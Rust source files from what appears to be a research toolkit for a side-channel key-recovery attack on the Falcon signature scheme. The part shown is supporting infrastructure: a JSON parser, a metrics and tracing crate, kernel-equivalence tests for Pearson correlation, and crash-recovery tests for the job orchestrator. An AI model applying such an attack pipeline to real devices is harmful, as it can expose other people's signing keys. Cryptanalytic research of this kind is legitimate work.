                Value::F64(x) => out.push_str(&format!("{x:?}")),
                Value::Bool(b) => out.push_str(if *b { "true" } else { "false" }),
                Value::Str(s) => escape_into(s, &mut out),
            }
        }
        out.push('}');
        out
    }
}

fn escape_into(s: &str, out: &mut String) {
    out.push('"');
    for c in s.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            c if (c as u32) < 0x20 => out.push_str(&format!("\\u{:04x}", c as u32)),
            c => out.push(c),
        }
    }
    out.push('"');
}

/// Parses one JSON line produced by [`Event::to_json`] back into its
/// `(key, value)` pairs (the event name appears under the `"ev"` key).
///
/// This is a reader for the flat subset of JSON this crate emits —
/// string/number/bool values, no nesting — sufficient for tests and
/// tooling to round-trip the sink output without a JSON dependency.
/// Returns `None` on any malformed input.
pub fn parse_jsonl(line: &str) -> Option<Vec<(String, Value)>> {
    let mut p = Parser { b: line.trim().as_bytes(), i: 0 };
    p.expect(b'{')?;
    let mut fields = Vec::new();
    if p.peek()? == b'}' {
        p.i += 1;
    } else {
        loop {
            let key = p.string()?;
            p.expect(b':')?;
            let val = p.value()?;
            fields.push((key, val));
            match p.next_byte()? {
                b',' => continue,
                b'}' => break,
                _ => return None,
            }
        }
    }
    p.skip_ws();
    if p.i == p.b.len() {
        Some(fields)
    } else {
        None
    }
}

struct Parser<'a> {
    b: &'a [u8],
    i: usize,
}

impl Parser<'_> {
    fn skip_ws(&mut self) {
        while self.i < self.b.len() && self.b[self.i].is_ascii_whitespace() {
            self.i += 1;
        }
    }

    fn peek(&mut self) -> Option<u8> {
        self.skip_ws();
        self.b.get(self.i).copied()
    }

    fn next_byte(&mut self) -> Option<u8> {
        let c = self.peek()?;
        self.i += 1;
        Some(c)
    }

    fn expect(&mut self, want: u8) -> Option<()> {
        (self.next_byte()? == want).then_some(())
    }

    fn string(&mut self) -> Option<String> {
        self.expect(b'"')?;
        let mut out = String::new();
        loop {
            match *self.b.get(self.i)? {
                b'"' => {
                    self.i += 1;
                    return Some(out);
                }
                b'\\' => {
                    self.i += 1;
                    match *self.b.get(self.i)? {
                        b'"' => out.push('"'),
                        b'\\' => out.push('\\'),
                        b'n' => out.push('\n'),
                        b'r' => out.push('\r'),
                        b't' => out.push('\t'),
                        b'u' => {
                            let hex = self.b.get(self.i + 1..self.i + 5)?;
                            let code =
                                u32::from_str_radix(std::str::from_utf8(hex).ok()?, 16).ok()?;
                            out.push(char::from_u32(code)?);
                            self.i += 4;
                        }
                        _ => return None,
                    }
                    self.i += 1;
                }
                _ => {
                    // Multi-byte UTF-8 sequences pass through unchanged.
                    let rest = std::str::from_utf8(&self.b[self.i..]).ok()?;
                    let c = rest.chars().next()?;
                    out.push(c);
                    self.i += c.len_utf8();
                }
            }
        }
    }

    fn value(&mut self) -> Option<Value> {
        match self.peek()? {
            b'"' => Some(Value::Str(self.string()?)),
            b't' => self.literal(b"true", Value::Bool(true)),
            b'f' => self.literal(b"false", Value::Bool(false)),
            _ => self.number(),
        }
    }

    fn literal(&mut self, word: &[u8], v: Value) -> Option<Value> {
        if self.b.get(self.i..self.i + word.len())? == word {
            self.i += word.len();
            Some(v)
        } else {
            None
        }
    }

    fn number(&mut self) -> Option<Value> {
        let start = self.i;
        while self
            .b
            .get(self.i)
            .is_some_and(|c| c.is_ascii_digit() || matches!(c, b'-' | b'+' | b'.' | b'e' | b'E'))
        {
            self.i += 1;
        }
        let text = std::str::from_utf8(&self.b[start..self.i]).ok()?;
        if text.contains(['.', 'e', 'E']) {
            text.parse().ok().map(Value::F64)
        } else if let Some(stripped) = text.strip_prefix('-') {
            stripped.parse::<u64>().ok()?;
            text.parse().ok().map(Value::I64)
        } else {
            text.parse().ok().map(Value::U64)
        }
    }
}
