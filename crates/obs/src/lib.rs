//! Observability substrate for the Falcon Down attack pipeline.
//!
//! The paper's evaluation is an exercise in *per-stage accounting*:
//! trace counts, screening drop rates, per-coefficient convergence and
//! extend-and-prune candidate-set sizes are its headline numbers. This
//! crate gives the acquire → screen → campaign → attack pipeline a
//! machine-readable substrate for exactly that accounting, with three
//! deliberately small pieces:
//!
//! * [`registry`] — a process-wide metrics registry of named
//!   [`Counter`]s, [`Gauge`]s and monotonic [`Histogram`]s, snapshotted
//!   into deterministic [`MetricsSnapshot`]s (sorted keys) so benchmark
//!   harnesses can diff before/after states per pipeline stage;
//! * [`span`] — scoped wall-clock timing: a [`span`](span()) guard
//!   records its lifetime into a `span.<name>` duration histogram and,
//!   when a sink is installed, emits a structured event with its
//!   thread-local nesting depth;
//! * [`sink`] + [`event`] — a structured event stream: [`Event`]s are
//!   flat key/value records rendered as one JSON object per line
//!   ([`JsonlSink`]), with a **zero-cost no-op default**: when no sink
//!   is installed (the initial state), [`emit`] is a single relaxed
//!   atomic load and the event closure is never even invoked.
//!
//! Everything is `std`-only (no registry dependencies — the build
//! environment is offline) and thread-safe: counters and histogram
//! buckets are atomics, so the `thread::scope` fan-outs of the attack
//! can bump them without coordination.
//!
//! # Cost model
//!
//! Instrumentation is placed at *stage* granularity (per capture, per
//! batch, per beam level), never inside the Pearson accumulation loops.
//! Every primitive operation (counter add, histogram record, span drop,
//! event emit check) additionally bumps one global op counter,
//! [`ops`](ops()), so a harness can bound the instrumentation overhead
//! of a measured region as `ops_delta × ns_per_op / wall` — the
//! `pipeline_metrics` bench does exactly that and shows the no-op-sink
//! overhead of the attack hot loop to be far below 1 %.
//!
//! ```
//! use falcon_obs as obs;
//! use std::sync::Arc;
//!
//! // Metrics are always on (and cheap).
//! obs::counter("demo.widgets").add(3);
//!
//! // Events are off by default; install a sink to capture them.
//! let mem = Arc::new(obs::MemorySink::default());
//! obs::set_sink(mem.clone());
//! {
//!     let _s = obs::span("demo.stage");
//!     obs::emit(|| obs::Event::new("demo.progress").with_u64("done", 1));
//! }
//! obs::clear_sink();
//! assert_eq!(mem.len(), 2); // the event plus the span's own record
//! assert!(obs::metrics().snapshot().counters["demo.widgets"] >= 3);
//! ```

#![forbid(unsafe_code)]

pub mod event;
pub mod registry;
pub mod sink;
pub mod span;

pub use event::{parse_jsonl, Event, Value};
pub use registry::{
    counter, duration_bounds, gauge, histogram, metrics, Counter, Gauge, Histogram,
    HistogramSnapshot, Metrics, MetricsSnapshot,
};
pub use sink::{
    clear_sink, emit, set_sink, sink_enabled, EventSink, JsonlSink, MemorySink, NoopSink,
};
pub use span::{span, span_depth, Span};

use std::sync::atomic::{AtomicU64, Ordering};

/// Global count of observability primitive operations (counter adds,
/// gauge sets, histogram records, span drops, event emit checks).
static OPS: AtomicU64 = AtomicU64::new(0);

/// Bumps the global op counter; called once per primitive operation.
#[inline]
pub(crate) fn note_op() {
    OPS.fetch_add(1, Ordering::Relaxed);
}

/// Total observability primitive operations performed by this process so
/// far. Diff two readings around a measured region and multiply by a
/// microbenchmarked per-op cost to bound the instrumentation overhead of
/// that region.
pub fn ops() -> u64 {
    OPS.load(Ordering::Relaxed)
}

#[cfg(test)]
mod tests;
