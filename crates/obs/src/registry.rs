//! Process-wide metrics registry: counters, gauges and monotonic
//! histograms with deterministic snapshots.

use std::collections::{BTreeMap, HashMap};
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::{Arc, OnceLock, RwLock};

/// A monotonically increasing event count.
#[derive(Debug, Default)]
pub struct Counter(AtomicU64);

impl Counter {
    /// Adds `n` to the counter.
    #[inline]
    pub fn add(&self, n: u64) {
        crate::note_op();
        self.0.fetch_add(n, Ordering::Relaxed);
    }

    /// Adds one.
    #[inline]
    pub fn incr(&self) {
        self.add(1);
    }

    /// Current value.
    pub fn get(&self) -> u64 {
        self.0.load(Ordering::Relaxed)
    }
}

/// A last-write-wins instantaneous value (stored as `f64` bits).
#[derive(Debug, Default)]
pub struct Gauge(AtomicU64);

impl Gauge {
    /// Overwrites the gauge.
    #[inline]
    pub fn set(&self, v: f64) {
        crate::note_op();
        self.0.store(v.to_bits(), Ordering::Relaxed);
    }

    /// Current value (0.0 before the first `set`).
    pub fn get(&self) -> f64 {
        f64::from_bits(self.0.load(Ordering::Relaxed))
    }
}

/// A histogram over fixed, strictly increasing upper bucket bounds.
///
/// A recorded value lands in the first bucket whose bound it does not
/// exceed; values above every bound land in the implicit overflow
/// bucket, so there are `bounds.len() + 1` buckets in total. The running
/// count and sum make mean and rate computations exact regardless of the
/// bucketing.
#[derive(Debug)]
pub struct Histogram {
    bounds: Vec<f64>,
    buckets: Vec<AtomicU64>,
    count: AtomicU64,
    /// Sum of recorded values, accumulated as `f64` bits via CAS.
    sum: AtomicU64,
}

impl Histogram {
    fn new(bounds: &[f64]) -> Histogram {
        assert!(bounds.windows(2).all(|w| w[0] < w[1]), "histogram bounds must be increasing");
        Histogram {
            bounds: bounds.to_vec(),
            buckets: (0..=bounds.len()).map(|_| AtomicU64::new(0)).collect(),
            count: AtomicU64::new(0),
            sum: AtomicU64::new(0f64.to_bits()),
        }
    }

    /// Records one observation.
    pub fn record(&self, v: f64) {
        crate::note_op();
        let idx = self.bounds.partition_point(|&b| b < v);
        self.buckets[idx].fetch_add(1, Ordering::Relaxed);
        self.count.fetch_add(1, Ordering::Relaxed);
        let mut cur = self.sum.load(Ordering::Relaxed);
        loop {
            let next = (f64::from_bits(cur) + v).to_bits();
            match self.sum.compare_exchange_weak(cur, next, Ordering::Relaxed, Ordering::Relaxed) {
                Ok(_) => break,
                Err(seen) => cur = seen,
            }
        }
    }

    /// Records the seconds elapsed since `start`.
    pub fn record_since(&self, start: std::time::Instant) {
        // ct: allow(observability timing helper; wall-clock by design)
        self.record(start.elapsed().as_secs_f64());
    }

    /// Number of observations.
    pub fn count(&self) -> u64 {
        self.count.load(Ordering::Relaxed)
    }

    /// Sum of observations.
    pub fn sum(&self) -> f64 {
        f64::from_bits(self.sum.load(Ordering::Relaxed))
    }

    /// The configured upper bounds (without the implicit overflow
    /// bucket).
    pub fn bounds(&self) -> &[f64] {
        &self.bounds
    }

    /// Per-bucket counts (`bounds.len() + 1` entries, overflow last).
    pub fn bucket_counts(&self) -> Vec<u64> {
        self.buckets.iter().map(|b| b.load(Ordering::Relaxed)).collect()
    }
}

/// Default duration bounds for span histograms: 1 µs to ~67 s in ×4
/// steps (14 finite buckets), wide enough for both a single capture and
/// a whole campaign batch.
pub fn duration_bounds() -> &'static [f64] {
    static BOUNDS: OnceLock<Vec<f64>> = OnceLock::new();
    BOUNDS.get_or_init(|| (0..14).map(|i| 1e-6 * 4f64.powi(i)).collect())
}

/// The registry: named metrics, created on first use and shared through
/// `Arc`s so hot sites can cache their handles.
#[derive(Debug, Default)]
pub struct Metrics {
    counters: RwLock<HashMap<String, Arc<Counter>>>,
    gauges: RwLock<HashMap<String, Arc<Gauge>>>,
    histograms: RwLock<HashMap<String, Arc<Histogram>>>,
}

fn get_or_insert<T>(
    map: &RwLock<HashMap<String, Arc<T>>>,
    name: &str,
    make: impl FnOnce() -> T,
) -> Arc<T> {
    // Lock poisoning cannot corrupt the map (values are atomics mutated
    // outside the lock), so a panic elsewhere must not cascade here.
    if let Some(v) = map.read().unwrap_or_else(|e| e.into_inner()).get(name) {
        return v.clone();
    }
    // Construct outside the write lock so a panicking constructor (e.g.
    // unsorted histogram bounds) cannot poison the registry.
    let fresh = Arc::new(make());
    let mut w = map.write().unwrap_or_else(|e| e.into_inner());
    w.entry(name.to_string()).or_insert(fresh).clone()
}

impl Metrics {
    /// The counter named `name`, created at zero on first use.
    pub fn counter(&self, name: &str) -> Arc<Counter> {
        get_or_insert(&self.counters, name, Counter::default)
    }

    /// The gauge named `name`.
    pub fn gauge(&self, name: &str) -> Arc<Gauge> {
        get_or_insert(&self.gauges, name, Gauge::default)
    }

    /// The histogram named `name`. The bounds are fixed by the first
    /// caller; later callers receive the existing histogram regardless
    /// of the bounds they pass.
    pub fn histogram(&self, name: &str, bounds: &[f64]) -> Arc<Histogram> {
        get_or_insert(&self.histograms, name, || Histogram::new(bounds))
    }

    /// A deterministic (sorted-key) snapshot of every metric.
    pub fn snapshot(&self) -> MetricsSnapshot {
        let counters = self
            .counters
            .read()
            .unwrap_or_else(|e| e.into_inner())
            .iter()
            .map(|(k, v)| (k.clone(), v.get()))
            .collect();
        let gauges = self
            .gauges
            .read()
            .unwrap_or_else(|e| e.into_inner())
            .iter()
            .map(|(k, v)| (k.clone(), v.get()))
            .collect();
        let histograms = self
            .histograms
            .read()
            .unwrap_or_else(|e| e.into_inner())
            .iter()
            .map(|(k, v)| {
                (
                    k.clone(),
                    HistogramSnapshot {
                        count: v.count(),
                        sum: v.sum(),
                        bounds: v.bounds().to_vec(),
                        buckets: v.bucket_counts(),
                    },
                )
            })
            .collect();
        MetricsSnapshot { counters, gauges, histograms }
    }
}

/// Point-in-time state of one histogram.
#[derive(Debug, Clone, PartialEq)]
pub struct HistogramSnapshot {
    /// Number of observations.
    pub count: u64,
    /// Sum of observations.
    pub sum: f64,
    /// Finite upper bounds.
    pub bounds: Vec<f64>,
    /// Per-bucket counts (overflow bucket last).
    pub buckets: Vec<u64>,
}

/// Point-in-time state of the whole registry, with sorted keys so diffs
/// and serialisations are deterministic.
#[derive(Debug, Clone, Default, PartialEq)]
pub struct MetricsSnapshot {
    /// Counter values by name.
    pub counters: BTreeMap<String, u64>,
    /// Gauge values by name.
    pub gauges: BTreeMap<String, f64>,
    /// Histogram states by name.
    pub histograms: BTreeMap<String, HistogramSnapshot>,
}

impl MetricsSnapshot {
    /// Counter value, 0 when absent.
    pub fn counter(&self, name: &str) -> u64 {
        self.counters.get(name).copied().unwrap_or(0)
    }

    /// Counter increase since `earlier` (saturating).
    pub fn counter_delta(&self, earlier: &MetricsSnapshot, name: &str) -> u64 {
        self.counter(name).saturating_sub(earlier.counter(name))
    }

    /// Histogram sum increase since `earlier` (0 when absent).
    pub fn histogram_sum_delta(&self, earlier: &MetricsSnapshot, name: &str) -> f64 {
        let now = self.histograms.get(name).map(|h| h.sum).unwrap_or(0.0);
        let was = earlier.histograms.get(name).map(|h| h.sum).unwrap_or(0.0);
        (now - was).max(0.0)
    }

    /// Histogram observation-count increase since `earlier`.
    pub fn histogram_count_delta(&self, earlier: &MetricsSnapshot, name: &str) -> u64 {
        let now = self.histograms.get(name).map(|h| h.count).unwrap_or(0);
        let was = earlier.histograms.get(name).map(|h| h.count).unwrap_or(0);
        now.saturating_sub(was)
    }
}

/// The process-wide registry.
pub fn metrics() -> &'static Metrics {
    static METRICS: OnceLock<Metrics> = OnceLock::new();
    METRICS.get_or_init(Metrics::default)
}

/// Shorthand for [`metrics()`]`.counter(name)`.
pub fn counter(name: &str) -> Arc<Counter> {
    metrics().counter(name)
}

/// Shorthand for [`metrics()`]`.gauge(name)`.
pub fn gauge(name: &str) -> Arc<Gauge> {
    metrics().gauge(name)
}

/// Shorthand for [`metrics()`]`.histogram(name, duration_bounds())` —
/// the common case of a duration histogram.
pub fn histogram(name: &str) -> Arc<Histogram> {
    metrics().histogram(name, duration_bounds())
}
