//! Scoped wall-clock timing spans.
//!
//! A [`span`] guard measures the wall time between its creation and its
//! drop, records the duration into the `span.<name>` histogram, and —
//! when a sink is installed — emits a `span` event carrying its
//! thread-local nesting depth (0 for an outermost span).

use crate::event::Event;
use std::cell::Cell;
use std::time::Instant;

thread_local! {
    static DEPTH: Cell<usize> = const { Cell::new(0) };
}

/// The nesting depth the *next* span opened on this thread would get.
pub fn span_depth() -> usize {
    DEPTH.with(Cell::get)
}

/// An open timing span; closes (records + emits) on drop.
#[derive(Debug)]
pub struct Span {
    name: &'static str,
    start: Instant,
    depth: usize,
}

impl Span {
    /// The span's name.
    pub fn name(&self) -> &'static str {
        self.name
    }

    /// This span's nesting depth (0 = outermost on its thread).
    pub fn depth(&self) -> usize {
        self.depth
    }

    /// Seconds elapsed so far.
    pub fn elapsed_secs(&self) -> f64 {
        // ct: allow(span timing is wall-clock by design)
        self.start.elapsed().as_secs_f64()
    }
}

/// Opens a span. Hold the guard for the duration of the stage:
///
/// ```
/// let _span = falcon_obs::span("doc.stage");
/// // ... timed work ...
/// ```
pub fn span(name: &'static str) -> Span {
    let depth = DEPTH.with(|d| {
        let v = d.get();
        d.set(v + 1);
        v
    });
    // ct: allow(span timing is wall-clock by design)
    Span { name, start: Instant::now(), depth }
}

impl Drop for Span {
    fn drop(&mut self) {
        // ct: allow(span timing is wall-clock by design)
        let secs = self.start.elapsed().as_secs_f64();
        DEPTH.with(|d| d.set(d.get().saturating_sub(1)));
        crate::registry::histogram(&format!("span.{}", self.name)).record(secs);
        crate::sink::emit(|| {
            Event::new("span")
                .with_str("name", self.name)
                .with_f64("secs", secs)
                .with_u64("depth", self.depth as u64)
        });
    }
}
