//! Differential suite for the SIMD Pearson tile kernels.
//!
//! The contract under test: every kernel (`scalar`, `avx2`, `neon`)
//! produces **bit-identical** `PearsonSums` state — not merely close
//! correlations — for every input class the attack can feed it. The
//! suite drives the public `push_column`/`push_column_reusing` API with
//! the kernel pinned to `scalar` and then to `auto`, and compares the
//! raw accumulator components with `f64::to_bits`.
//!
//! On a host without AVX2/NEON, `auto` resolves to the scalar tile and
//! every assertion degenerates to scalar-vs-scalar: the suite still
//! passes (and still guards the fold/tail plumbing around the kernel).
//! CI runs it under both `FALCON_DEMA_SIMD=off` and `auto` regardless.

use falcon_dema::cpa::simd::{self, Kernel, KernelChoice};
use falcon_dema::cpa::{pearson, pearson_with_moments, PearsonSums, SampleMoments, SampleSums};
use std::sync::Mutex;

/// Kernel selection is process-global; tests that override it must not
/// interleave.
static KERNEL_LOCK: Mutex<()> = Mutex::new(());

/// Deterministic xorshift64* stream.
struct Rng(u64);

impl Rng {
    fn new(seed: u64) -> Rng {
        Rng(seed | 1)
    }

    fn next(&mut self) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0.wrapping_mul(0x2545_F491_4F6C_DD1D)
    }

    /// A hypothesis value in the attack's typical Hamming-weight range.
    fn hyp(&mut self) -> f64 {
        (self.next() % 105) as f64
    }

    /// A plausible near-zero-mean sample.
    fn sample(&mut self) -> f32 {
        (self.next() % 2048) as f32 / 64.0 - 16.0
    }
}

fn random_columns(len: usize, seed: u64) -> (Vec<f64>, Vec<f32>) {
    let mut rng = Rng::new(seed);
    let h = (0..len).map(|_| rng.hyp()).collect();
    let t = (0..len).map(|_| rng.sample()).collect();
    (h, t)
}

/// Sums fed through `push_column` under the given kernel policy.
fn sums_under(choice: KernelChoice, h: &[f64], t: &[f32]) -> [u64; 6] {
    simd::set_kernel(Some(choice));
    let mut s = PearsonSums::default();
    s.push_column(h, t);
    let out = s.components().map(f64::to_bits);
    simd::set_kernel(None);
    out
}

/// Asserts scalar and auto kernels agree bitwise on one column pair,
/// through both the plain and the sample-reusing entry points.
fn assert_bit_identical(h: &[f64], t: &[f32], what: &str) {
    let scalar = sums_under(KernelChoice::Scalar, h, t);
    let auto = sums_under(KernelChoice::Auto, h, t);
    assert_eq!(scalar, auto, "push_column sums diverge: {what}");

    // The reusing path must agree with the plain path under every
    // kernel (SampleSums itself is kernel-independent by construction).
    for choice in [KernelChoice::Scalar, KernelChoice::Auto] {
        simd::set_kernel(Some(choice));
        let reuse = SampleSums::new(t);
        let mut s = PearsonSums::default();
        s.push_column_reusing(h, t, &reuse);
        let got = s.components().map(f64::to_bits);
        simd::set_kernel(None);
        assert_eq!(scalar, got, "push_column_reusing sums diverge ({choice:?}): {what}");
    }

    // And the derived statistics follow the sums.
    simd::set_kernel(Some(KernelChoice::Scalar));
    let mut a = PearsonSums::default();
    a.push_column(h, t);
    simd::set_kernel(Some(KernelChoice::Auto));
    let mut b = PearsonSums::default();
    b.push_column(h, t);
    simd::set_kernel(None);
    assert_eq!(a.corr().to_bits(), b.corr().to_bits(), "corr diverges: {what}");
    assert_eq!(
        a.hyp_variance().to_bits(),
        b.hyp_variance().to_bits(),
        "hyp_variance diverges: {what}"
    );
}

#[test]
fn lane_remainders_zero_through_seven() {
    let _g = KERNEL_LOCK.lock().unwrap_or_else(|e| e.into_inner());
    // Column lengths covering every remainder mod TILE_LANES twice,
    // plus degenerate lengths shorter than one tile.
    for len in [0usize, 1, 2, 3, 4, 5, 6, 7, 96, 97, 98, 99, 100, 101, 102, 103, 1000, 4099] {
        let (h, t) = random_columns(len, 0xD1F7 ^ (len as u64) << 8);
        assert_bit_identical(&h, &t, &format!("random columns, len={len}"));
    }
}

#[test]
fn pathological_sample_values() {
    let _g = KERNEL_LOCK.lock().unwrap_or_else(|e| e.into_inner());
    // NaN, infinities, signed zeros, subnormals and f32 saturation must
    // propagate identically through every kernel (IEEE semantics of
    // mul/add/convert are exact and kernel-independent; the suite pins
    // that no kernel "cleans up" or flushes anything).
    let specials: [f32; 12] = [
        f32::NAN,
        f32::INFINITY,
        f32::NEG_INFINITY,
        0.0,
        -0.0,
        f32::MIN_POSITIVE,        // smallest normal
        f32::MIN_POSITIVE / 2.0,  // subnormal
        -f32::MIN_POSITIVE / 4.0, // negative subnormal
        f32::MAX,                 // saturated capture
        f32::MIN,
        1.0e-45, // smallest positive subnormal
        3.4e38,
    ];
    for (i, &special) in specials.iter().enumerate() {
        for len in [5usize, 64, 131] {
            let (h, mut t) = random_columns(len, 0xBAD0 + i as u64);
            // Scatter the special value into several lanes and the tail.
            let mut rng = Rng::new(0xCAFE + i as u64);
            for _ in 0..=len / 7 {
                let at = (rng.next() as usize) % len;
                t[at] = special;
            }
            assert_bit_identical(&h, &t, &format!("special {special:?} len={len}"));
        }
    }
}

#[test]
fn constant_columns_zero_variance() {
    let _g = KERNEL_LOCK.lock().unwrap_or_else(|e| e.into_inner());
    for len in [1usize, 4, 7, 64, 129] {
        // Constant hypothesis side (the unfalsifiable all-zero-window
        // candidate), constant sample side, and both.
        let (h, t) = random_columns(len, 0xC0457 + len as u64);
        let hc = vec![3.0f64; len];
        let tc = vec![-1.5f32; len];
        assert_bit_identical(&hc, &t, &format!("constant hyps len={len}"));
        assert_bit_identical(&h, &tc, &format!("constant samples len={len}"));
        assert_bit_identical(&hc, &tc, &format!("both constant len={len}"));

        // Zero variance must also yield corr() == 0 exactly, not NaN.
        simd::set_kernel(Some(KernelChoice::Auto));
        let mut s = PearsonSums::default();
        s.push_column(&hc, &t);
        assert_eq!(s.corr(), 0.0, "constant hypothesis must give zero correlation");
        simd::set_kernel(None);
    }
}

#[test]
fn multi_column_accumulation_is_bit_identical() {
    let _g = KERNEL_LOCK.lock().unwrap_or_else(|e| e.into_inner());
    // The attack folds several columns of different lengths into one
    // accumulator; the kernel boundary (lane fold + tail) re-runs per
    // column, so cross-column state must carry identically.
    let cols: Vec<(Vec<f64>, Vec<f32>)> =
        [33usize, 4, 7, 256, 1].iter().map(|&n| random_columns(n, 0x5E0 + n as u64)).collect();
    let run = |choice: KernelChoice| {
        simd::set_kernel(Some(choice));
        let mut s = PearsonSums::default();
        for (h, t) in &cols {
            s.push_column(h, t);
        }
        let out = s.components().map(f64::to_bits);
        simd::set_kernel(None);
        out
    };
    assert_eq!(run(KernelChoice::Scalar), run(KernelChoice::Auto));
}

#[test]
fn pearson_with_moments_is_kernel_independent() {
    let _g = KERNEL_LOCK.lock().unwrap_or_else(|e| e.into_inner());
    // The two-pass estimator never touches the tile kernels, but CI
    // sweeps this suite under FALCON_DEMA_SIMD=off|auto — pin that the
    // moments-reusing path stays bit-identical to the direct one in
    // both worlds.
    let (h, t) = random_columns(501, 0x7007);
    let m = SampleMoments::new(&t);
    assert_eq!(pearson(&h, &t).to_bits(), pearson_with_moments(&h, &t, &m).to_bits());
}

#[test]
fn active_kernel_reports_detection() {
    let _g = KERNEL_LOCK.lock().unwrap_or_else(|e| e.into_inner());
    simd::set_kernel(Some(KernelChoice::Off));
    assert_eq!(simd::active_kernel(), Kernel::Scalar);
    simd::set_kernel(Some(KernelChoice::Auto));
    let auto = simd::active_kernel();
    simd::set_kernel(None);
    if simd::simd_available() {
        assert_ne!(auto, Kernel::Scalar, "SIMD host must auto-select a vector kernel");
    } else {
        assert_eq!(auto, Kernel::Scalar, "non-SIMD host must fall back to the scalar tile");
    }
}
