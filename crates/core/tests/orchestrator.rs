//! Orchestrator torture tests: leave behind the exact on-disk picture a
//! SIGKILL produces — at every slice boundary, and mid-checkpoint — then
//! assert recovery converges to results bit-identical to an
//! uninterrupted run of the same spec.
//!
//! The reference is an *uninterrupted run*, not the planted key: under
//! measurement noise a campaign may legitimately converge to a value
//! with noise-induced errors, and the durability contract is that a
//! crash never changes the outcome, whatever that outcome is.

use falcon_dema::orch::{
    FaultInjector, JobRuntime, JobSpec, JobState, JobStore, Supervisor, SupervisorConfig,
};
use std::path::PathBuf;

fn tmp_dir(tag: &str) -> PathBuf {
    let dir = std::env::temp_dir().join(format!("falcon-orch-tort-{tag}-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    dir
}

fn spec(name: &str) -> JobSpec {
    JobSpec { name: name.into(), seed: format!("{name} torture seed"), ..Default::default() }
}

/// Uninterrupted reference run: (recovered bits, total slices).
fn reference(spec: &JobSpec, tag: &str) -> (Vec<u64>, u64) {
    let dir = tmp_dir(tag);
    let store = JobStore::open(&dir).unwrap();
    store.submit(spec).unwrap();
    let mut rt = JobRuntime::prepare(spec, &store).unwrap();
    let mut inj = FaultInjector::default();
    let mut slices = 0u64;
    loop {
        let out = rt.slice(&mut inj).unwrap();
        slices += 1;
        if out.done {
            assert!(out.complete, "reference run must converge; pick another seed");
            break;
        }
        assert!(slices < 1_000, "reference run did not terminate");
    }
    let bits = rt.report().recovered_bits().expect("complete run has bits");
    let _ = std::fs::remove_dir_all(&dir);
    (bits, slices)
}

/// Runs `slices` checkpointed slices of `spec` in `dir`, then abandons
/// the job with its status still `running` — the on-disk state a
/// SIGKILL at that boundary leaves behind.
fn crash_after(spec: &JobSpec, dir: &PathBuf, slices: u64) {
    let store = JobStore::open(dir).unwrap();
    store.submit(spec).unwrap();
    let mut rt = JobRuntime::prepare(spec, &store).unwrap();
    let mut inj = FaultInjector::default();
    let mut st = store.read_status(&spec.name).unwrap();
    st.state = JobState::Running;
    for _ in 0..slices {
        let out = rt.slice(&mut inj).unwrap();
        rt.checkpoint(&store).unwrap();
        st.slices += 1;
        st.traces_requested = out.traces_requested as u64;
        st.recovered = out.recovered as u64;
    }
    store.write_status(&spec.name, &st).unwrap();
}

/// Recovers the store under a fresh supervisor and returns the job's
/// settled bits, asserting it reached `done`.
fn recover_and_finish(spec: &JobSpec, dir: &PathBuf, ctx: &str) -> Vec<u64> {
    let sup = Supervisor::start(JobStore::open(dir).unwrap(), SupervisorConfig::default()).unwrap();
    let st = sup.wait_settled(&spec.name, 120_000).unwrap();
    assert_eq!(st.state, JobState::Done, "{ctx}: job ended {:?}: {}", st.state, st.last_error);
    st.bits
}

#[test]
fn a_crash_at_every_slice_boundary_recovers_bit_identically() {
    let spec = spec("tort-boundary");
    let (want, total) = reference(&spec, "ref-boundary");
    assert!(total >= 2, "need at least two kill points, got {total} slices");
    // Kill point 0 = killed right after submit, before any work;
    // kill point `total` = killed after the final slice's checkpoint but
    // before the done state was recorded.
    for kill in 0..=total {
        let dir = tmp_dir(&format!("kill{kill}"));
        crash_after(&spec, &dir, kill);
        let bits = recover_and_finish(&spec, &dir, &format!("kill point {kill}"));
        assert_eq!(bits, want, "kill point {kill} diverged from the uninterrupted run");
        let _ = std::fs::remove_dir_all(&dir);
    }
}

#[test]
fn a_torn_checkpoint_write_is_discarded_at_recovery() {
    let spec = spec("tort-torn");
    let (want, _) = reference(&spec, "ref-torn");
    let dir = tmp_dir("torn");
    crash_after(&spec, &dir, 1);
    // The crash landed mid-checkpoint: half-written temp files for both
    // the campaign checkpoint and the status record are still on disk.
    std::fs::write(dir.join(format!("{}.ckpt.tmp", spec.name)), b"torn half-write").unwrap();
    std::fs::write(dir.join(format!("{}.state.tmp", spec.name)), b"also torn").unwrap();

    let store = JobStore::open(&dir).unwrap();
    let report = store.recover().unwrap();
    assert_eq!(report.torn_removed, 2, "both torn temp files must be swept");
    assert_eq!(report.adopted, vec![spec.name.clone()]);
    assert!(report.corrupt.is_empty(), "committed records must survive: {report:?}");

    let bits = recover_and_finish(&spec, &dir, "torn checkpoint");
    assert_eq!(bits, want, "torn temp files must not change the outcome");
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn a_corrupt_state_record_quarantines_only_that_job() {
    let good = spec("tort-good");
    let (want, _) = reference(&good, "ref-good");
    let bad = spec("tort-bad");
    let dir = tmp_dir("corrupt");
    let store = JobStore::open(&dir).unwrap();
    store.submit(&good).unwrap();
    store.submit(&bad).unwrap();
    std::fs::write(store.state_path(&bad.name), b"\xff\xffnot a status record").unwrap();

    let sup = Supervisor::start(store, SupervisorConfig::default()).unwrap();
    let st = sup.wait_settled(&good.name, 120_000).unwrap();
    assert_eq!(st.state, JobState::Done, "sibling must finish: {}", st.last_error);
    assert_eq!(st.bits, want);
    let bad_st = sup.status(&bad.name).unwrap();
    assert_eq!(bad_st.state, JobState::Failed, "corrupt job must be quarantined");
    assert!(bad_st.last_error.contains("quarantined"), "unexpected error: {}", bad_st.last_error);
    drop(sup);
    let _ = std::fs::remove_dir_all(&dir);
}
