//! Property tests for the `PearsonSums` algebra and the estimator
//! family around it.
//!
//! Where `kernel_differential.rs` pins *kernels* against each other,
//! this suite pins the *algebra* the attack relies on: column splits
//! must not change the accumulated sums, the estimator must be
//! permutation-invariant up to rounding, and the three Pearson
//! implementations (one-pass sums, two-pass centered, streaming
//! Welford) must agree — including at the catastrophic-cancellation
//! offset regime the two-pass rewrite fixed.

use falcon_dema::cpa::{pearson, pearson_evolution, PearsonSums};

